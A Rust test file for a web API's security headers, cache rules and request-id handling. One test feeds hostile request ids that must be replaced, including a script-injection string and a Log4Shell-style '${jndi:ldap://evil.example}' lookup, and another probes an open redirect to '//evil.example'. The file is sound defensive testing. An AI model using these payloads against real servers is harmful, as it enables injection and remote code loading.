//! Security headers and request ids, on every kind of answer.

use std::collections::HashSet;

use reqwest::Method;
use serde_json::json;

use super::app;
use crate::support::{Answer, TestApp};

/// One answer of each kind: success, redirect, no content, page, text, problems of handlers, of
/// the framework and of middleware.
async fn answers(app: &TestApp) -> Vec<(&'static str, Answer)> {
    let (client, kari) = (app.anonymous(), app.kari().await);
    let get = |path: &'static str| {
        let client = client.clone();
        async move { (path, client.get(path).await) }
    };
    let large = client
        .request(Method::POST, "/v1/auth/token")
        .body("x".repeat(70_000));
    vec![
        get("/v1/corridors").await,
        get("/health/live").await,
        get("/v1/health").await,
        get("/metrics").await,
        get("/.well-known/jwks.json").await,
        get("/v1/auth/bankid").await,
        get("/docs/").await,
        get("/docs/swagger-ui.css").await,
        get("/docs/errors").await,
        get("/openapi.json").await,
        get("/").await,
        get("/nowhere").await,
        get("/v1/auth/token").await,
        get("/v1/auth/me").await,
        get("/v1/auth/bankid?returnPath=//evil.example").await,
        ("too large", client.send(large).await),
        ("gone", client.post("/v1/auth/login", json!({})).await),
        ("logged in", kari.get("/v1/auth/me").await),
        ("logged out", kari.post("/v1/auth/logout", json!({})).await),
    ]
}

#[tokio::test]
async fn every_answer_carries_the_security_headers() {
    let app = app().await;
    for (what, answer) in answers(&app).await {
        for (header, value) in [
            (
                "strict-transport-security",
                "max-age=63072000; includeSubDomains; preload",
            ),
            ("x-content-type-options", "nosniff"),
            ("x-frame-options", "DENY"),
            ("referrer-policy", "strict-origin-when-cross-origin"),
        ] {
            assert_eq!(answer.header(header), Some(value), "{what}");
        }
        let policy = answer.header("content-security-policy").expect("a policy");
        assert!(
            policy.contains("frame-ancestors 'none'"),
            "{what}: {policy}"
        );
        assert!(policy.contains("default-src '"), "{what}: {policy}");
        assert!(!policy.contains("unsafe-eval"), "{what}: {policy}");
        assert!(answer.header("permissions-policy").is_some(), "{what}");
        for telling in ["server", "x-powered-by"] {
            assert_eq!(answer.header(telling), None, "{what}");
        }
    }
}

#[tokio::test]
async fn pages_may_load_from_here_alone_and_the_api_from_nowhere() {
    let app = app().await;
    let policy = async |path: &str| {
        let answer = app.anonymous().get(path).await;
        let policy = answer.header("content-security-policy");
        policy.expect("a policy").to_owned()
    };
    assert!(
        policy("/v1/corridors")
            .await
            .starts_with("default-src 'none'")
    );
    assert!(
        policy("/openapi.json")
            .await
            .starts_with("default-src 'none'")
    );
    assert!(policy("/docs/").await.starts_with("default-src 'self'"));
    // Nothing that only looks like the documentation gets its leave.
    assert!(policy("/docsx").await.starts_with("default-src 'none'"));
}

#[tokio::test]
async fn nothing_about_a_person_is_kept_by_caches() {
    let app = app().await;
    for (what, answer) in answers(&app).await {
        let public = ["/.well-known/jwks.json"].contains(&what);
        let expected = if public {
            "public, max-age=300"
        } else {
            "no-store"
        };
        if !what.starts_with("/docs") {
            assert_eq!(answer.header("cache-control"), Some(expected), "{what}");
        }
    }
}

#[tokio::test]
async fn every_answer_has_a_request_id_of_its_own() {
    let app = app().await;
    let mut seen = HashSet::new();
    for (what, answer) in answers(&app).await {
        let id = answer
            .header("x-request-id")
            .expect("a request id")
            .to_owned();
        assert!(id.starts_with("req_"), "{what}: {id}");
        if answer.status.is_client_error() {
            assert_eq!(answer.json()["requestId"], json!(id), "{what}");
        }
        assert!(seen.insert(id), "{what}: twice the same");
    }
}

#[tokio::test]
async fn a_harmless_request_id_is_kept_and_a_nasty_one_replaced() {
    let app = app().await;
    let client = app.anonymous();
    let ask = async |id: &[u8]| {
        let request = client.request(Method::GET, "/v1/auth/me");
        let id = reqwest::header::HeaderValue::from_bytes(id).expect("a header value");
        let answer = client.send(request.header("x-request-id", id)).await;
        let echo = answer
            .header("x-request-id")
            .expect("a request id")
            .to_owned();
        assert_eq!(answer.json()["requestId"], json!(echo));
        echo
    };
    let longest = "a".repeat(64);
    for kept in [
        "12345678",
        "5b0c7f0e-8f5e-4a0e-9c38-0d5a3b7c1d2e",
        "A.b_c-123",
        &longest,
    ] {
        assert_eq!(ask(kept.as_bytes()).await, kept);
    }
    let too_long = "a".repeat(65);
    for replaced in [
        "short",
        &too_long,
        "with a blank",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example}",
        "a\tb\tc\td\te",
        "æøåæøåæøå",
        "\u{202e}12345678",
    ] {
        let echo = ask(replaced.as_bytes()).await;
        assert!(echo.starts_with("req_"), "{replaced:?} became {echo}");
    }
    assert!(
        ask(b"\xff\xfe\xfd\xfc\xfb\xfa\xf9\xf8")
            .await
            .starts_with("req_")
    );
}
